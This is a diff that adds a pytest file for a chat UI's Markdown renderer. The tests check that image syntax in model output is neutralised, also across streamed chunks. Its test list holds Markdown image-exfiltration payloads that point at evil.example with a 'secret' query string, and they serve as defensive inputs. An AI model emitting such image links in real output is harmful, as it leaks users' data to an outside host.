@@ -1,0 +1,86 @@
+"""Model output is rendered without loading images: the escaping is checked on the Markdown text and by
+parsing it with a CommonMark parser (markdown-it, which ships with rich)."""
+
+from __future__ import annotations
+
+import pytest
+from markdown_it import MarkdownIt
+
+from ui.render import neutralise_images, safe_pieces, snippet, source_label, timing_caption
+
+ATTACKS = [
+    "![x](https://evil.example/pixel.png?q=secret)",
+    'Look: ![logo](http://evil.example/a.png "t") done',
+    "![ref style][img]\n\n[img]: https://evil.example/b.png",
+    "![shortcut]\n\n[shortcut]: https://evil.example/c.png",
+    "[![nested](https://evil.example/d.png)](https://example.com)",
+    "!![double](https://evil.example/e.png)",
+    "![local](/app/static/x.png)",
+]
+
+
+def image_sources(markdown: str) -> list[str]:
+    tokens = MarkdownIt("commonmark").parse(markdown)
+    found = []
+    for token in tokens:
+        for child in token.children or []:
+            if child.type == "image":
+                found.append(child.attrGet("src"))
+    return found
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_no_image_survives(text):
+    assert image_sources(text)  # the attack is a real image before neutralising
+    assert image_sources(neutralise_images(text)) == []
+
+
+def test_plain_text_links_and_exclamations_are_kept():
+    text = "Wow! See [the guide](https://example.com/guide) and [1]. Done!"
+    assert neutralise_images(text) == text
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_streamed_pieces_are_neutralised_across_piece_boundaries(text):
+    for cut in range(1, len(text)):
+        pieces = [text[:cut], text[cut:]]
+        joined = "".join(safe_pieces(pieces))
+        assert joined == neutralise_images(text)
+        assert image_sources(joined) == []
+
+
+def test_stream_keeps_a_trailing_exclamation_mark():
+    assert "".join(safe_pieces(["Hello", "!"])) == "Hello!"
+    assert list(safe_pieces(["!", "[", "a](u)"])) == ["!\\[", "a](u)"]
+
+
+def test_source_label_and_snippet():
+    source = {
+        "number": 2,
+        "title": "Returns",
+        "source": "/docs/policies/returns.pdf",
+        "page": 3,
+        "score": 0.61234,
+    }
+    assert source_label(source) == "[2] Returns — returns.pdf, page 3 (score 0.61)"
+    assert source_label({"title": "![t](https://x/y.png)", "source": "a.md", "score": 0.5}).startswith(
+        "!\\[t]"
+    )
+    long = "word " * 200
+    cut = snippet(long, limit=50)
+    assert cut.endswith(" …") and len(cut) <= 52
+    assert snippet("a\n\n  b") == "a b"
+
+
+def test_timing_caption():
+    answer = {
+        "abstained": False,
+        "adapter": "demo",
+        "prompt_tokens": 120,
+        "completion_tokens": 30,
+        "timings": {"total_ms": 2500.0, "first_token_ms": 400.0, "tokens_per_s": 14.2},
+    }
+    assert timing_caption(answer) == (
+        "2.5 s total · first token 0.4 s · 14.2 tokens/s · 120 prompt + 30 answer tokens · adapter demo"
+    )
+    assert "abstained" in timing_caption({"abstained": True, "timings": {"total_ms": 10.0}})
